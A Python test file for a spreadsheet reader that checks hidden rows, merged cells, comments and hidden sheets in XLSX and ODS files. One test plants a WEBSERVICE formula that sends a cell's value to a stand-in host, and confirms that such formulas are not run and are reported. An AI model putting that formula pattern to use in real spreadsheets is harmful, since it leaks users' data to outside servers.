"""Values, row numbers, hidden rows, merged cells and comments are those the spreadsheet shows."""

from openpyxl import Workbook
from openpyxl.comments import Comment

from klappt.sheets.grid import Span, cell_text, column_index, column_letter
from klappt.sheets.read import read_workbook
from klappt.sheets.tests.files import ods, ods_cell, repacked, table, workbook

SPANNED = 'table:number-rows-spanned="2"'


def dressed(book: Workbook) -> None:
    sheet = book["Akteure"]
    sheet.row_dimensions[3].hidden = True
    sheet.merge_cells("A2:A4")
    sheet["B3"].comment = Comment("bitte anrufen", "Alma")
    book["Listen"].sheet_state = "veryHidden"


def test_what_stands_beside_the_values_is_read_too() -> None:
    data = workbook(
        {"Akteure": [[], ["VHS", 7151.0], [None, "x"], [None, True]], "Listen": [["ja"]]}, dressed
    )
    book = read_workbook(data)
    actors, lists = book.sheets
    assert actors.rows[1][:2] == ("VHS", 7151.0)
    assert actors.hidden_rows == {3}
    assert actors.spans == (Span(2, 0, 4, 0),)
    assert actors.comments == {(3, 1): "bitte anrufen"}
    assert lists.hidden
    assert not actors.hidden


def test_ods_says_the_same() -> None:
    rows = (
        '<table:table-row table:number-rows-repeated="2"/>'
        f"<table:table-row>{ods_cell('VHS', SPANNED)}</table:table-row>"
        '<table:table-row table:visibility="collapse"><table:covered-table-cell/><table:table-cell>'
        "<office:annotation>"
        "<text:p>bitte</text:p><text:p>anrufen</text:p></office:annotation></table:table-cell>"
        f"{ods_cell('x')}</table:table-row>"
        '<table:table-row table:number-rows-repeated="1048570"><table:table-cell/></table:table-row>'
    )
    sheet = read_workbook(ods(rows)).sheets[0]
    assert sheet.rows[2][0] == "VHS"
    assert sheet.hidden_rows == {4}
    assert sheet.spans == (Span(3, 0, 4, 0),)
    assert sheet.comments == {(4, 1): "bitte\nanrufen"}
    assert sheet.rows[3][2] == "x"


def test_formulas_that_call_out_are_not_run_and_said() -> None:
    formula = b'<c r="A1" t="str"><f>WEBSERVICE("http://example.org/?"&amp;B1)</f><v>alt</v></c>'

    def with_formula(old: bytes) -> bytes:
        return old.replace(b'<sheetData><row r="1">', b'<sheetData><row r="1">' + formula, 1).replace(
            b'<c r="A1" t="inlineStr"', b'<c r="C1" t="inlineStr"'
        )

    book = read_workbook(
        repacked(
            table(["", "VHS"]),
            {
                "xl/worksheets/sheet1.xml": with_formula,
                "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            },
        )
    )
    assert book.sheets[0].rows[0][0] == "alt"
    assert len(book.notices) == 2


def test_rows_that_are_only_coloured_to_the_end_do_not_count() -> None:
    def coloured(old: bytes) -> bytes:
        return old.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>')

    data = repacked(table(["VHS"]), {"xl/worksheets/sheet1.xml": coloured})
    assert len(read_workbook(data).sheets[0].rows) == 1


def test_columns_are_named_as_the_spreadsheet_names_them() -> None:
    assert [column_letter(index) for index in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
    assert all(column_index(column_letter(index)) == index for index in range(1000))


def test_numbers_read_as_people_write_them() -> None:
    assert [cell_text(value) for value in (7151.0, 2.5, 3, True, " x ")] == ["7151", "2,5", "3", "TRUE", "x"]
